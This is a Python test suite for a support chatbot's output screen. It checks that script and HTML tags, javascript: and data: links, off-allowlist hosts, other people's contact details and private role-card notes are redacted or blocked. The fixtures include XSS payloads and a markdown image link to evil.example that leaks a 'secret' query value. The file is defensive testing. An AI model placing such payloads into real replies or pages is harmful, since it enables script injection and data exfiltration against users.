"""Reply screening: no raw HTML or script, links only to the KB and allowed hosts, nobody else's
data, nothing from the private part of the role card."""

from __future__ import annotations

import pytest

from guardrails import output, screen_output
from guardrails.policy import GuardrailPolicy, ScreenContext
from guardrails.verdict import Action

UNSAFE_HTML = [
    ("script", "Done! <script>alert(document.cookie)</script>", "script"),
    ("script_mixed_case", "Done <ScRiPt src=//x.example/a.js></sCrIpT>", "script"),
    ("onclick", 'Click <a href="/kb/KB-1001" onclick="steal()">here</a>', "onclick"),
    ("img_onerror", "<img src=x onerror=alert(1)> see above", "onerror"),
    ("iframe", "See <iframe src=https://evil.example></iframe>", "iframe"),
    ("svg_onload", "<svg onload=alert(1)></svg>", "onload"),
    ("style", "<style>body{display:none}</style>Hello", "display:none"),
    ("comment", "Hello <!-- hidden --> there", "<!--"),
]


@pytest.mark.parametrize(("case", "reply", "needle"), UNSAFE_HTML, ids=[u[0] for u in UNSAFE_HTML])
def test_raw_html_never_survives(case: str, reply: str, needle: str, ctx: ScreenContext,
                                 policy: GuardrailPolicy) -> None:
    result = screen_output(reply, ctx, policy)
    assert result.action is Action.REDACT
    assert "<script" not in result.text.lower() and "<iframe" not in result.text.lower()
    assert "<" not in result.text.replace("&lt;", "")
    assert needle not in result.html.lower()
    assert any(v.check == "output_html" for v in result.verdicts)


LINKS = [
    ("javascript", "Open [the portal](javascript:alert(1)) now", False),
    ("data_uri", "Open [it](data:text/html;base64,PHNjcmlwdD4=)", False),
    ("off_allowlist", "Reset at [this page](https://evil.example/reset)", False),
    ("lookalike_host", "Reset at [this page](https://corp.example.evil.example/reset)", False),
    ("http_allowed_host", "Use [the portal](http://password.corp.example)", False),
    ("bare_off_allowlist", "Go to https://evil.example/fix and log in", False),
    ("image_exfil", "![ok](https://evil.example/p.png?d=secret)", False),
    ("credentials_in_url", "[x](https://user:pw@corp.example/)", False),
    ("kb_link", "See [Reset your password](/kb/KB-1001) for the steps", True),
    ("allowed_host", "Use [the portal](https://password.corp.example/reset)", True),
    ("allowed_bare", "Status is at https://status.corp.example today", True),
    ("allowed_autolink", "Status: <https://status.corp.example>", True),
    # Sentence punctuation after a bare address is not part of its host.
    ("allowed_bare_comma", "Still on https://mfa.corp.example, select Add method", True),
    ("allowed_bare_stop", "Open https://speedtest.corp.example.", True),
    ("allowed_bare_paren_stop", "Go to https://portal.corp.example/help?x=1;", True),
    ("off_allowlist_comma", "Go to https://evil.example, then sign in", False),
    ("off_allowlist_dotted", "Go to https://corp.example.evil.example. Sign in", False),
]


@pytest.mark.parametrize(("case", "reply", "kept"), LINKS, ids=[link[0] for link in LINKS])
def test_links_only_to_kb_and_allowed_hosts(case: str, reply: str, kept: bool,
                                            ctx: ScreenContext, policy: GuardrailPolicy) -> None:
    result = screen_output(reply, ctx, policy)
    if kept:
        assert result.text == reply
        assert result.action is Action.ALLOW
        assert "href=" in result.html or case.startswith("allowed_bare")  # no linkify: text
    else:
        assert result.action is Action.REDACT
        assert "evil.example" not in result.text and "javascript:" not in result.text
        assert "data:" not in result.text and "http://" not in result.text
        assert "href" not in result.html and "src" not in result.html


PEOPLE = [
    ("other_email", "Contact maria.garcia@corp.example for that", "maria.garcia@corp.example",
     "[REDACTED:EMAIL]"),
    ("other_phone", "Her mobile is +44 7911 123456", "+44 7911 123456", "[REDACTED:PHONE]"),
    ("other_employee_id", "Ticket belongs to E004512", "E004512", "[REDACTED:EMPLOYEE_ID]"),
    ("card_in_reply", "Your card 4111 1111 1111 1111 is on file", "4111 1111 1111 1111",
     "[REDACTED:CARD]"),
    # A reply that echoes what the user typed must not echo their password either.
    ("inline_password_echo", "You said you tried Kx9!pL2#qv and it still fails.", "Kx9!pL2#qv",
     "[REDACTED:PASSWORD]"),
    ("pw_is_echo", "Noted: your pw is hunter2!! - please change it now.", "hunter2!!",
     "[REDACTED:PASSWORD]"),
]


@pytest.mark.parametrize(("case", "reply", "value", "placeholder"), PEOPLE,
                         ids=[p[0] for p in PEOPLE])
def test_other_peoples_data_is_redacted(case: str, reply: str, value: str, placeholder: str,
                                        ctx: ScreenContext, policy: GuardrailPolicy) -> None:
    result = screen_output(reply, ctx, policy)
    assert value not in result.text and value not in result.html
    assert placeholder in result.text
    assert result.code == "other_person_data"


KEPT = [
    ("own_email", "We'll write to alex.doe@corp.example"),
    ("own_id", "Your employee id is E000100"),
    ("public_contact", "Call the Service Desk on +1 555 010 4357 or servicedesk@corp.example"),
    ("format_example", "Sign in as first.last@corp.example"),
    ("code_block", "Run:\n\n```\n<b>not html</b> https://evil.example\n```\n"),
    ("inline_code", "Type `<username>` in the box"),
    ("ticket_ids", "INC0012345 is resolved; see KB-1001"),
]


@pytest.mark.parametrize(("case", "reply"), KEPT, ids=[k[0] for k in KEPT])
def test_own_public_and_code_content_is_kept(case: str, reply: str, ctx: ScreenContext,
                                             policy: GuardrailPolicy) -> None:
    result = screen_output(reply, ctx, policy)
    assert result.text == reply
    assert result.action is Action.ALLOW
    assert "<script" not in result.html


@pytest.mark.parametrize("reply", ["Per my notes: escalate VIPs after 2 minutes.",
                                   "owner-note-7731 says hello"])
def test_private_role_card_text_blocks_the_reply(reply: str, ctx: ScreenContext,
                                                 policy: GuardrailPolicy) -> None:
    result = screen_output(reply, ctx, policy)
    assert result.action is Action.REFUSE
    assert result.text == output.FALLBACK
    assert "VIP" not in result.html


def test_link_allowed_table(policy: GuardrailPolicy) -> None:
    cases = {"/kb/KB-1": True, "/kb/../admin": False, "/admin": False,
             "https://corp.example": True, "https://a.corp.example/x": True,
             "https://corp.example.evil.example": False, "mailto:servicedesk@corp.example": True,
             "mailto:someone@corp.example": False, "ftp://corp.example": False}
    assert {url: output.link_allowed(url, policy) for url in cases} == cases


LOCKOUT_STEP = ("Choose **Unlock only** if you know your password, or **Unlock and reset** if "
                "you are not sure of it.")
QUOTED = [
    # Article text quoted word for word: UI labels after "password" are not a password.
    ("kb_step", f"3. {LOCKOUT_STEP}", [LOCKOUT_STEP], None),
    ("kb_label", "Open **Settings > Accounts > Sign-in options** and change your password.",
     ["Open **Settings > Accounts > Sign-in options** and change your password."], None),
    # Outside the quoted passage the detectors still apply, in the same reply.
    ("echo_beside_kb", f"You said you tried Kx9!pL2#qv.\n\n3. {LOCKOUT_STEP}", [LOCKOUT_STEP],
     "Kx9!pL2#qv"),
    # Not quoted at all (a model's paraphrase): screened as any reply.
    ("paraphrase", f"3. {LOCKOUT_STEP}", [], "**Unlock and"),
    # Quoting exempts passwords only: a card in an article is still blanked.
    ("card_in_kb", "Test card 4111 1111 1111 1111 works", ["Test card 4111 1111 1111 1111 works"],
     "4111 1111 1111 1111"),
]


@pytest.mark.parametrize(("case", "reply", "quoted", "redacted"), QUOTED,
                         ids=[q[0] for q in QUOTED])
def test_article_text_quoted_verbatim(case: str, reply: str, quoted: list[str],
                                      redacted: str | None, ctx: ScreenContext,
                                      policy: GuardrailPolicy) -> None:
    result = screen_output(reply, ctx, policy, quoted)
    if redacted is None:
        assert result.text == reply and result.action is Action.ALLOW, result.verdicts
    else:
        assert redacted not in result.text and "[REDACTED:" in result.text
